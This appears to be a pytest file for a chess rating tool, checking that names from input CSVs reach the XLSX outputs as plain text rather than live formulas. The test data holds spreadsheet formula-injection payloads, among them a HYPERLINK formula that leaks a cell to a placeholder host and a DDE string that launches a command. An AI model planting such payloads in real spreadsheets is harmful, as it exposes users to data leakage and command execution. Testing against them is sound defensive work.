"""Text from the input stays text in every spreadsheet we write (issue 14: formula injection).

A player named ``=HYPERLINK("http://...","x")`` must reach rating_list.xlsx and report.xlsx as the
name it is, never as a live formula; numbers stay numbers. The workbooks are real files, read back
twice: as raw XML (no ``<f>`` element anywhere) and with openpyxl (the exact text, typed as text).
"""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook

from tests.helpers import write_csv
from tests.reportfixtures import rate_into

# Every first character a spreadsheet may read as a formula, and a control character XML 1.0
# cannot hold (shown as U+FFFD: the file must still open).
NAMES = {
    "1": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "2": "+1+cmd|' /C calc'!A0",
    "3": "-2+3",
    "4": "@SUM(1,2)",
    "5": "\tTabbed, Name",
    "6": "\rReturn, Name",
    "7": "Plain, Name",
    "8": "Bell\x07Name",
}
# Readers strip the blanks around a cell (tab, CR); the control character becomes U+FFFD.
SHOWN = {**NAMES, "5": "Tabbed, Name", "6": "Return, Name", "8": "Bell\ufffdName"}


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    folder = tmp_path_factory.mktemp("inject")
    players = write_csv(
        folder / "players.csv",
        ["id", "name", "rating"],
        [[pid, name, 1500 + 10 * int(pid)] for pid, name in NAMES.items()],
    )
    ids = list(NAMES)
    games = write_csv(
        folder / "games.csv",
        ["event", "round", "white", "black", "result"],
        [["=1+1 Open", 1, ids[i], ids[i + 1], "1-0"] for i in range(0, len(ids), 2)],
    )
    rate_into(folder / "out", games, players=players, extra=("--player", "1", "--no-html"))
    return folder / "out"


WORKBOOKS = ["rating_list.xlsx", "report.xlsx", "player-1.xlsx"]


@pytest.mark.parametrize("name", WORKBOOKS)
def test_no_formula_anywhere_in_the_xml(out, name):
    with zipfile.ZipFile(out / name) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for sheet in sheets:
            xml = book.read(sheet).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, sheet


@pytest.mark.parametrize("name", WORKBOOKS)
def test_names_read_back_as_the_same_text(out, name):
    book = load_workbook(out / name)
    seen = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in SHOWN.values():
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen[cell.value] = cell
    wanted = set(SHOWN.values()) if name != "player-1.xlsx" else {SHOWN["1"], SHOWN["2"]}
    assert wanted <= set(seen)
    # A risky value carries Excel's quote prefix, so editing the cell keeps it text as well.
    assert seen[SHOWN["1"]].quotePrefix and seen[SHOWN["2"]].quotePrefix
    if name != "player-1.xlsx":
        assert seen[SHOWN["4"]].quotePrefix and not seen[SHOWN["7"]].quotePrefix


def test_numbers_stay_numbers(out):
    book = load_workbook(out / "rating_list.xlsx")
    ws = book.worksheets[0]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2, values_only=True):
        record = dict(zip(header, row, strict=True))
        assert isinstance(record["rating"], int) and isinstance(record["new_rating"], int)
        assert isinstance(record["id"], str)


def test_csv_keeps_the_value_as_given(out):
    # The CSV choice (docs/safety.md): data for programs, every value exactly as in the input.
    text = (out / "rating_list.csv").read_text(encoding="utf-8")
    assert '"=HYPERLINK(""http://example.invalid/?leak=""&A1,""click"")"' in text
    assert ",-2+3," in text and ',"@SUM(1,2)",' in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_risky_start_is_written_as_quoted_text(tmp_path, start):
    from openpyxl import Workbook

    from pipeline.writers.xlsx.text_cells import text_cell

    book = Workbook(write_only=True)
    ws = book.create_sheet("s")
    value = f"{start}1+1"
    ws.append([text_cell(ws, value), 7])
    book.save(tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as raw:
        assert "<f>" not in raw.read("xl/worksheets/sheet1.xml").decode()
    cell, number = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows())
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    assert (number.value, number.data_type) == (7, "n")
